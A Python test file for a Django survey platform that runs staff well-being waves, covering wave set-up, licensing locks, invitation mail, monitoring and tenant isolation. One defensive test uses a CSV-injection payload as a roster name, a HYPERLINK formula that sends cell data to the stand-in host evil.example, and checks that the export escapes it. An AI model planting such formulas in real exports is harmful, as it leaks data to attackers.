"""Wave administration over HTTP: set-up, licence, launch locks, mail, monitoring, isolation."""

from __future__ import annotations

import csv
import io

import pytest
from django.core import mail
from django.urls import reverse

from clinwell.web.surveys.models import Invitation, MailJob, Response, Wave
from clinwell.web.surveys.services.waves import ModuleChoice, WaveError, update_wave
from tests.web.conftest import Cast
from tests.web.surveys.conftest import GOOD_ANSWERS, make_wave, token_for


def url(name: str, wave: Wave | None = None, org: str = "alpha") -> str:
    kwargs: dict[str, object] = {"org_slug": org}
    if wave is not None:
        kwargs["wave_id"] = wave.pk
    return reverse(f"surveys:{name}", kwargs=kwargs)


def test_admin_creates_a_wave_with_chosen_modules_in_order(cast: Cast, login) -> None:
    client = login(cast.owner)
    data = {
        "name": "Autumn 2027",
        "opens_at": "2030-09-01T08:00",
        "closes_at": "2030-09-30T17:00",
        "time_zone": "America/Chicago",
        "min_n_scores": "6",
        "min_n_comments": "12",
        "use_who5": "on",
        "pos_who5": "2",
        "use_single_item_burnout": "on",
        "pos_single_item_burnout": "1",
    }
    response = client.post(url("create"), data)
    assert response.status_code == 302
    wave = Wave.objects.get(name="Autumn 2027")
    assert [m.instrument_id for m in wave.modules.all()] == ["single_item_burnout", "who5"]
    assert (wave.min_n_scores, wave.min_n_comments) == (6, 12)
    assert wave.opens_at.hour == 13  # 08:00 in Chicago (CDT) is 13:00 UTC
    preview = client.get(url("preview", wave)).content.decode()
    assert "Preview." in preview
    assert "I have felt cheerful and in good spirits" in preview
    assert preview.index("Part 1 of 2") < preview.index("WHO-5")


def test_the_wave_form_reports_bad_input_by_field(cast: Cast, login) -> None:
    client = login(cast.owner)
    data = {
        "name": "Backwards",
        "opens_at": "2030-09-30T08:00",
        "closes_at": "2030-09-01T08:00",
        "time_zone": "America/Chicago",
        "min_n_scores": "5",
        "min_n_comments": "3",
        "use_who5": "on",
    }
    response = client.post(url("create"), data)
    page = response.content.decode()
    # Both problems in one round, each at its field.
    errors = response.context["form"].errors
    assert "The wave must close after it opens." in errors["closes_at"]
    assert any("cannot be below the one for scores" in e for e in errors["min_n_comments"])
    assert "must close after it opens" in page
    assert not Wave.objects.filter(name="Backwards").exists()
    nothing = {**data, "min_n_comments": "10", "closes_at": "2030-10-30T08:00"}
    del nothing["use_who5"]
    refused = client.post(url("create"), nothing)
    assert refused.context["form"].modules_error == "Choose at least one instrument."


def test_thresholds_and_questions_lock_when_the_wave_opens(cast: Cast) -> None:
    wave = make_wave(cast)
    common = {
        "name": wave.name,
        "opens_at": wave.opens_at,
        "closes_at": wave.closes_at,
        "time_zone": wave.time_zone,
        "modules": [ModuleChoice(m.instrument_id) for m in wave.modules.all()],
    }
    with pytest.raises(WaveError, match="locked"):
        update_wave(wave, **common, min_n_scores=3, min_n_comments=10)
    with pytest.raises(WaveError, match="cannot change"):
        update_wave(
            wave, **{**common, "modules": [ModuleChoice("who5")]}, min_n_scores=5, min_n_comments=10
        )
    update_wave(wave, **{**common, "name": "Renamed"}, min_n_scores=5, min_n_comments=10)
    assert Wave.objects.get(pk=wave.pk).name == "Renamed"


def test_a_licensed_instrument_needs_acknowledgement_and_its_text_before_launch(
    cast: Cast, login, tmp_path, monkeypatch
) -> None:
    from clinwell.instruments import get_instrument, install_instrument, load_library
    from clinwell.instruments.fhir import to_fhir_questionnaire
    from clinwell.instruments.library import with_licensed_text

    monkeypatch.setenv("CLINWELL_INSTRUMENTS_DIR", str(tmp_path / "instruments"))
    load_library.cache_clear()
    wave = make_wave(cast, launch=False, modules=[ModuleChoice("mini_z2")])
    client = login(cast.owner)
    page = client.get(url("detail", wave)).content.decode()
    assert "Licence terms: Mini Z 2.0" in page
    assert "commercial" in page.lower()
    client.post(url("launch", wave))
    assert Wave.objects.get(pk=wave.pk).status == Wave.Status.DRAFT
    client.post(url("acknowledge", wave), {"instrument": "mini_z2"})

    # Acknowledged, but the item text is still a placeholder: respondents would see it.
    refused = client.post(url("launch", wave), follow=True).content.decode()
    assert "load the licensed item text of mini_z2" in refused
    assert Wave.objects.get(pk=wave.pk).status == Wave.Status.DRAFT

    questionnaire = to_fhir_questionnaire(get_instrument("mini_z2"))
    from clinwell.instruments.anchors import anchors

    wording = anchors(get_instrument("mini_z2"))
    for item in questionnaire["item"]:
        item["text"] = "Licensed " + wording[item["linkId"]].replace("…", "at")
    install_instrument(with_licensed_text(get_instrument("mini_z2"), questionnaire))
    load_library.cache_clear()
    try:
        client.post(url("launch", wave))
        assert Wave.objects.get(pk=wave.pk).status == Wave.Status.OPEN
        assert Invitation.objects.filter(wave=wave).count() == 5  # Alpha's active roster
    finally:
        load_library.cache_clear()


def test_invitations_are_sent_in_batches_with_progress(cast: Cast, login, settings) -> None:
    settings.MAIL_BATCH_SIZE = 2
    wave = make_wave(cast)
    client = login(cast.owner)
    client.post(url("send", wave), {"kind": "invite", "count": "5"})
    job = MailJob.objects.get(wave=wave)
    assert (job.status, job.total, job.sent, job.percent) == ("done", 5, 5, 100)
    assert len(mail.outbox) == 5
    assert "/s/" in mail.outbox[0].body
    assert "at least 5 people" in mail.outbox[0].body
    assert set(Invitation.objects.values_list("status", flat=True)) == {"sent"}
    progress = client.get(url("job", wave)).content.decode()
    assert "5 sent" in progress
    assert 'max="100" value="100"' in progress


def test_reminders_go_only_to_those_who_have_not_responded(cast: Cast, login) -> None:
    wave = make_wave(cast)
    client = login(cast.owner)
    client.post(url("send", wave), {"kind": "invite", "count": "5"})
    mail.outbox.clear()
    token = token_for(wave, "card1@alpha.example")
    from django.test import Client

    Client().post(f"/s/{token}/", GOOD_ANSWERS)
    client.post(url("send", wave), {"kind": "remind", "count": "4"})
    reminded = sorted(m.to[0] for m in mail.outbox)
    assert "card1@alpha.example" not in reminded
    assert len(reminded) == 4
    assert all(token_for(wave, m.to[0]) in m.body for m in mail.outbox)  # the same personal link


def test_nonresponder_export_needs_the_organization_to_allow_it(cast: Cast, login) -> None:
    wave = make_wave(cast)
    client = login(cast.owner)
    refused = client.get(url("nonresponders", wave), follow=True)
    assert "does not allow exporting non-responders" in refused.content.decode()
    cast.alpha.allow_nonresponder_export = True
    cast.alpha.save()
    exported = client.get(url("nonresponders", wave)).content.decode()
    assert exported.splitlines()[0] == "email,name,unit"
    assert "card1@alpha.example" in exported


def test_the_nonresponder_export_writes_a_formula_name_as_text(cast: Cast, login) -> None:
    """CSV injection: a roster name that is a formula must not become a live formula."""
    person = cast.person("card2@alpha.example")
    person.name = '=HYPERLINK("http://evil.example/?x="&A2,"Open")'
    person.save()
    wave = make_wave(cast)
    cast.alpha.allow_nonresponder_export = True
    cast.alpha.save()
    exported = login(cast.owner).get(url("nonresponders", wave)).content.decode()
    rows = list(csv.reader(io.StringIO(exported)))
    names = [row[1] for row in rows[1:]]
    assert "'" + person.name in names
    assert not [n for n in names if n.startswith(("=", "+", "-", "@"))]


def test_monitoring_shows_counts_but_no_scores_while_open(cast: Cast, login) -> None:
    wave = make_wave(cast)
    from django.test import Client

    Client().post(f"/s/{token_for(wave, 'card1@alpha.example')}/", GOOD_ANSWERS)
    page = login(cast.owner).get(url("detail", wave)).content.decode()
    # one response is below the score threshold (5): the count itself is hidden
    assert "Fewer than 5 responses so far" in page
    assert "Counts only" in page
    assert "who5" not in page.lower().replace("who-5", "")  # no score columns
    assert Response.objects.count() == 1
    assert 'hx-trigger="every 15s"' in page  # the panel refreshes itself while open
    for email in ("card2", "med1", "surg1", "peds1"):
        Client().post(f"/s/{token_for(wave, f'{email}@alpha.example')}/", GOOD_ANSWERS)
    panel = login(cast.owner).get(url("monitor", wave)).content.decode()
    assert "<strong>5</strong> responses" in panel
    assert "100% of the 5 invited" in panel
    # every unit has fewer than 5 respondents of its own: each unit's count is hidden
    assert panel.count("hidden to protect a small group") >= 5
    assert "<html" not in panel  # the panel alone


def test_closing_by_hand(cast: Cast, login) -> None:
    wave = make_wave(cast)
    login(cast.owner).post(url("close", wave))
    assert Wave.objects.get(pk=wave.pk).status == Wave.Status.CLOSED


ADMIN_VIEWS = ["detail", "edit", "preview", "job", "monitor", "nonresponders", "email", "send"]
POST_VIEWS = ["launch", "close", "send", "acknowledge", "anonymous_link", "email", "copy"]


@pytest.mark.parametrize("role", ["owner", "leader", "analyst", "executive"])
def test_no_role_reaches_another_tenants_waves(cast: Cast, login, role: str) -> None:
    beta_wave = make_wave_for_beta(cast)
    client = login(getattr(cast, role))
    for name in ADMIN_VIEWS:
        assert client.get(url(name, beta_wave, org="beta")).status_code == 404, name
        assert client.get(url(name, beta_wave, org="alpha")).status_code in {403, 404}, name
    for name in POST_VIEWS:
        assert client.post(url(name, beta_wave, org="alpha")).status_code in {403, 404}, name
    assert Wave.objects.get(pk=beta_wave.pk).status == Wave.Status.OPEN


@pytest.mark.parametrize("role", ["leader", "analyst", "executive"])
def test_only_admins_manage_waves(cast: Cast, login, role: str) -> None:
    wave = make_wave(cast)
    client = login(getattr(cast, role))
    assert client.get(url("index")).status_code == 403
    for name in ADMIN_VIEWS:
        assert client.get(url(name, wave)).status_code == 403, name
    for name in POST_VIEWS:
        assert client.post(url(name, wave)).status_code == 403, name


def make_wave_for_beta(cast: Cast) -> Wave:
    from datetime import timedelta

    from django.utils import timezone

    from clinwell.web.orgs.services.roster import import_roster
    from clinwell.web.surveys.services.waves import create_wave, launch_wave

    # a wave must invite at least its score threshold (5) of people
    roster = "email,unit,role\n" + "".join(
        f"fm{i}@beta.example,Beta Clinic/Family Medicine,physician\n" for i in range(1, 6)
    )
    import_roster(cast.beta, "roster.csv", io.BytesIO(roster.encode()))
    wave = create_wave(
        cast.beta,
        name="Beta wave",
        opens_at=timezone.now() - timedelta(days=1),
        closes_at=timezone.now() + timedelta(days=5),
        time_zone="UTC",
        modules=[ModuleChoice("who5")],
    )
    launch_wave(wave)
    return wave


def test_a_closed_wave_page_leads_to_its_results(cast: Cast, login) -> None:
    from clinwell.web.surveys.services.lifecycle import close_wave

    wave = make_wave(cast)
    close_wave(wave)
    page = login(cast.owner).get(url("detail", wave)).content.decode()
    assert f"/o/alpha/results/?wave={wave.pk}" in page
    assert "Counts only" not in page


def test_the_wave_form_labels_how_far_each_instrument_is_validated(cast: Cast, login) -> None:
    page = login(cast.owner).get(url("create")).content.decode()
    row = page[page.index("Intent to leave within two years") :][:600]
    assert "not validated as worded" in row
    bank = page[page.index("Organizational well-being item bank") :][:600]
    assert "custom — not externally validated" in bank
